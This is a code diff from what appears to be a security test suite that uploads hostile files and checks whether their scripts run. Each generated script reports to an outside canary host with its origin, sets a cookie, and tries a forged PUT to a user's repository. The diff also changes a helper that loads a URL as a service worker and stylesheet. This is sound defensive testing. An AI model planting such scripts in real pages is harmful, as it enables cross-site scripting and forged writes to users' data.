@@ -6,11 +6,15 @@ export interface HostileFile {
   readonly content: string
 }
 
+/** What the script in a file of that name asks the canary for, less the origin that it has. */
+export function ranPath(name: string): string {
+  return `/ran?by=${encodeURIComponent(name).replaceAll("'", '%27')}&as=`
+}
+
 /** A script that tells `canary` that it ran, and as whom, and tries to write to the repository. */
 function scriptOf(canary: string, name: string): string {
-  const by = encodeURIComponent(name)
   return (
-    `try { fetch('${canary}/ran?by=${by}&as=' + self.origin, { mode: 'no-cors' }) } catch {}` +
+    `try { fetch('${canary}${ranPath(name)}' + self.origin, { mode: 'no-cors' }) } catch {}` +
     `try { document.cookie = 'ran=1'; window.name = 'ran' } catch {}` +
     `try { fetch('/users/me/repo/forged', { method: 'PUT', body: 'forged' }) } catch {}`
   )
@@ -108,6 +112,12 @@ export function useAsEverything(url: string): string {
     over.push(navigator.serviceWorker?.register(url).catch(() => {}))
     const late = new Promise((resolve) => setTimeout(resolve, 10_000))
     await Promise.race([Promise.all(over), late])
-    return [...document.styleSheets].length + [...document.images].filter(({ naturalWidth }) => naturalWidth > 0).length
+    return [...document.styleSheets].flatMap((sheet) => {
+      try {
+        return [...sheet.cssRules]
+      } catch {
+        return []
+      }
+    }).length
   })()`
 }
